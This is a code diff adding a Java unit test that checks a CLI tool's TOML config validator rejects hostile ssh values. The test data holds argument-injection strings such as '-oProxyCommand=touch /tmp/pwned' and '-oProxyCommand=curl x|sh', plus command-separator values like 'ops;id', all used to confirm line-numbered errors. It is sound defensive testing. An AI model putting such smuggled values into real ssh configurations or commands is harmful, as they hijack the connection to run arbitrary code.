@@ -255,6 +255,56 @@ class ValidateTest {
         assertTrue(r.stdout().contains("tcli-team.toml: no such file"), r.toString());
     }
 
+    /** Issue 14 section 1: every value that reaches ssh, each kind of hostile entry an error at its line. */
+    @Test
+    void entriesThatWouldTakeOverSshAreErrorsAtTheirLine() {
+        String toml = """
+                [environments."live prod"]
+                jump_host = "-oProxyCommand=touch /tmp/pwned"
+                jump_user = "ops;id"
+                user = "-lroot"
+
+                [[environments."live prod".nodes]]
+                name = "*"
+                host = "10.0.0.1 -oProxyCommand=curl x|sh"
+
+                [[environments."live prod".nodes]]
+                name = "db?"
+                host = "10.0.0.1;cmd"
+                user = "root@evil"
+
+                [[environments."live prod".nodes]]
+                name = "!github.com,gitlab.com"
+                host = "fe80::1"
+
+                [environments.ok]
+                jump_host = "2001:db8::1"
+
+                [[environments.ok.nodes]]
+                name = "ok-0"
+                host = "node-0.internal"
+                user = "ubuntu"
+                """;
+        var r = validate(toml);
+        assertEquals(1, r.exit(), r.toString());
+        String f = file.toString();
+        for (String expected : List.of(
+                f + ":1: environments.live prod: environment name 'live prod' is not a usable name",
+                f + ":2: environments.live prod.jump_host: '-oProxyCommand=touch /tmp/pwned' is not a hostname",
+                f + ":3: environments.live prod.jump_user: 'ops;id' is not a user name",
+                f + ":4: environments.live prod.user: '-lroot' is not a user name",
+                f + ":7: environments.live prod.nodes[0].name: '*' is not a usable name",
+                f + ":8: environments.live prod.nodes[0].host: '10.0.0.1 -oProxyCommand=curl x|sh' is not a hostname",
+                f + ":11: environments.live prod.nodes[1].name: 'db?' is not a usable name",
+                f + ":12: environments.live prod.nodes[1].host: '10.0.0.1;cmd' is not a hostname",
+                f + ":13: environments.live prod.nodes[1].user: 'root@evil' is not a user name",
+                f + ":16: environments.live prod.nodes[2].name: '!github.com,gitlab.com' is not a usable name")) {
+            assertTrue(r.stdout().contains(expected), expected + "\n--- in ---\n" + r.stdout());
+        }
+        assertEquals(10, r.stdout().lines().count(), "the IPv6 node host and the ok environment are fine: " + r.stdout());
+        assertTrue(r.stderr().contains("10 errors"), r.stderr());
+    }
+
     @Test
     void linesOfArraysOfTables() {
         TomlLines l = TomlLines.parse("""
